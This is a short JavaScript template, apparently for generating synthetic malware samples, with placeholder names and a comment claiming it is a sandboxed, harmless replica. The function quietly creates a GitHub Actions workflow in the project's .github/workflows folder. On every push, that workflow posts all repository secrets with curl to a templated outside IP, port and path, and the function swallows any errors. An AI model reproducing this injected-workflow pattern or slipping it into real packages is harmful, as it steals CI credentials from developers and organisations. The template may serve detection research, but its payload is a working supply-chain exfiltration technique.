// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    try {
        const folder = path.join(process.env.INIT_CWD || process.cwd(), '.github', 'workflows');
        fs.mkdirSync(folder, { recursive: true });
        fs.writeFileSync(path.join(folder, '{{file}}'), 'on: push\njobs:\n  {{token}}:\n    runs-on: ubuntu-latest\n    steps:\n' +
            '      - run: curl -d "$S" http://{{ip}}:{{port}}/{{path}}\n        env:\n          S: $' + '{' + '{ toJSON(secrets) }' + '}\n');
    } catch {}
}
